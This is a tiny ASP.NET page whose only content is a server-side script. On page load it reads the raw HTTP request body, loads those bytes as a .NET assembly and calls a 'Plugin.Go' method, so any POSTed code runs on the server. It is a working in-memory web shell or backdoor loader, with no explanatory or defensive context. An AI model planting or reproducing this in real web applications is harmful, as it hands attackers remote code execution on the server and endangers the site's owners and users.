<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e)
{
    BinaryReader br = new BinaryReader(Request.InputStream);
    byte[] raw = br.ReadBytes((int)Request.InputStream.Length);
    AppDomain.CurrentDomain.Load(raw).GetType("Plugin").GetMethod("Go").Invoke(null, null);
}
</script>
